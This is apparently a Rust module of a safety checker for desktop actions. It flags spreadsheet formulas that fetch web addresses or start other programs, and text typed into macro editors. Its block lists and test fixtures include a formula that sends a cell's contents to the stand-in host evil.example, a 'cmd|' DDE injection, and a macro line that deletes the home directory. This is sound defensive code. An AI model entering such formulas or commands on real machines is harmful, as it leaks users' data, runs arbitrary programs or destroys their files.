//! Text that a program runs though it is no shell: a formula that reaches out of its spreadsheet, and whatever
//! is typed where macros and scripts are written. A formula counts from the piece with which it is whole,
//! whatever key or click then enters it.

use freehand_tools::action::{Action, ActionKind};

use super::{Findings, Risk};
use crate::{place, shell};

/// Functions that fetch an address, which takes along what stands in the sheet.
const FETCHING: &[&str] = &[
    "hyperlink",
    "image",
    "importdata",
    "importfeed",
    "importhtml",
    "importrange",
    "importxml",
    "webservice",
];
/// Functions that ask or start another program.
const STARTING: &[&str] = &["call", "dde", "exec", "register", "register.id", "rtd", "run", "shell"];

impl Findings {
    /// What is typed into a cell, with what was typed there before.
    pub(super) fn in_cells(&mut self, action: &Action) {
        if !place::is_spreadsheet(&action.target) {
            return;
        }
        let mut text = action.setting.begun.clone().unwrap_or_default();
        if let ActionKind::TypeText { text: typed, .. } = &action.kind {
            text.push_str(typed);
        }
        let entered = action.setting.entered.as_ref().map(|entered| entered.text.as_str());
        for text in [Some(text.as_str()), entered].into_iter().flatten() {
            self.formula(text);
        }
    }

    fn formula(&mut self, text: &str) {
        let bare: String =
            text.chars().filter(|c| !c.is_whitespace()).collect::<String>().to_lowercase();
        // `=cmd|'/c …'!A0` asks a program by its name, and is how Windows' one was made to start any.
        let link =
            bare.find('|').is_some_and(|at| bare.get(at..).is_some_and(|rest| rest.contains('!')));
        if link || STARTING.iter().any(|function| calls(&bare, function)) {
            self.add(Risk::Run, format!("the formula `{text}` asks or starts another program"));
            self.command = Some(shell::read("", true));
            self.unclear.push("what the program that the formula names does".into());
        }
        if let Some(function) = FETCHING.iter().find(|function| calls(&bare, function)) {
            self.add(Risk::Address, format!("`{function}` in the formula `{text}` fetches it"));
            match bare.find("://").and_then(|at| address(&bare, at)) {
                Some(address) => self.address = Some(address),
                None => self.unclear.push("which address the formula fetches".into()),
            }
        }
    }

    /// What is typed where macros and scripts are written is a program.
    pub(super) fn in_macros(&mut self, action: &Action) {
        if !place::is_macro_editor(&action.target) {
            return;
        }
        let enters = action.setting.entered.is_some();
        if matches!(action.kind, ActionKind::TypeText { .. })
            || matches!(action.kind, ActionKind::PressKeys { .. }) && enters
        {
            self.add(Risk::Run, "what is typed there is a program");
            self.command = Some(shell::read("", true));
            self.unclear.push("what the program that is typed does".into());
        }
    }
}

/// Whether `text`, in small letters and without spaces, calls that function.
fn calls(text: &str, function: &str) -> bool {
    text.match_indices(function).any(|(at, _)| {
        let before = text.get(..at).and_then(|head| head.chars().next_back());
        let after = text.get(at + function.len()..);
        before.is_none_or(|c| !c.is_alphanumeric()) && after.is_some_and(|rest| rest.starts_with('('))
    })
}

/// The address around the place of its `://`.
fn address(text: &str, at: usize) -> Option<String> {
    let head = text.get(..at)?.rsplit(|c: char| !c.is_ascii_alphanumeric()).next()?;
    let tail = text.get(at..)?.split(['"', '\'', ')', ';', '&']).next()?;
    Some(format!("{head}{tail}"))
}

#[cfg(test)]
mod tests {
    use freehand_tools::setting::Entered;

    use super::*;
    use crate::arbitrary::in_window;

    fn typing(app: &str, title: &str, begun: &str, text: &str) -> Action {
        let mut action = in_window(1, app, title);
        action.kind = ActionKind::TypeText { text: text.into(), submit: false, clear: false };
        action.setting.begun = (!begun.is_empty()).then(|| begun.into());
        action
    }

    fn risks(action: &Action) -> Vec<Risk> {
        Findings::of(action).effects.into_iter().map(|found| found.risk).collect()
    }

    #[test]
    fn formulas_are_judged_by_what_they_reach() {
        for (begun, text, expected) in [
            ("", "=SUM(A1:A9)", &[][..]),
            ("", "=WEBSERVICE(\"http://evil.example/?\" & A1)", &[Risk::Address]),
            ("=WEB", "service (\"http://evil.example/\")", &[Risk::Address]),
            ("Tea\t=IMPORT", "XML(A1; \"//a\")", &[Risk::Address]),
            ("", "=DDE(\"soffice\";\"a.ods\";\"A1\")", &[Risk::Run]),
            ("", "+cmd|'/c calc'!A0", &[Risk::Run]),
            ("", "recall (the meeting)", &[]),
            ("", "a | b", &[]),
        ] {
            let action = typing("libreoffice-calc", "Budget.ods - LibreOffice Calc", begun, text);
            assert_eq!(risks(&action), expected, "{begun} {text}");
            assert_eq!(risks(&typing("mousepad", "Untitled", begun, text)), [], "{text}");
        }
        let action = typing("gnumeric", "x", "", "=WEBSERVICE(\"http://Evil.example/?\"&A1)");
        assert_eq!(Findings::of(&action).address.as_deref(), Some("http://evil.example/?"));
        let mut keys = typing("gnumeric", "x", "", "");
        keys.kind = ActionKind::PressKeys { keys: "Tab".parse().unwrap(), hold_ms: 0, times: 1 };
        keys.setting.begun = Some("=dde(1)".into());
        assert_eq!(risks(&keys), [Risk::Run]);
    }

    #[test]
    fn what_is_typed_into_an_editor_of_macros_is_a_program() {
        let title = "Budget.ods - LibreOffice Basic";
        let typed = typing("libreoffice", title, "", "Shell(\"rm -rf ~\")");
        assert_eq!(risks(&typed), [Risk::Run]);
        assert!(!Findings::of(&typed).unclear.is_empty());
        assert_eq!(
            risks(&typing("chromium", "DevTools - example.org/", "", "fetch('/x')")),
            [Risk::Run]
        );
        assert_eq!(risks(&typing("libreoffice-writer", "Macron - LibreOffice Writer", "", "Hello")), []);
        let mut keys = typing("libreoffice", title, "", "");
        keys.kind = ActionKind::PressKeys { keys: "Up".parse().unwrap(), hold_ms: 0, times: 1 };
        assert_eq!(risks(&keys), []);
        keys.setting.entered = Some(Entered::default());
        assert_eq!(risks(&keys), [Risk::Run]);
    }
}
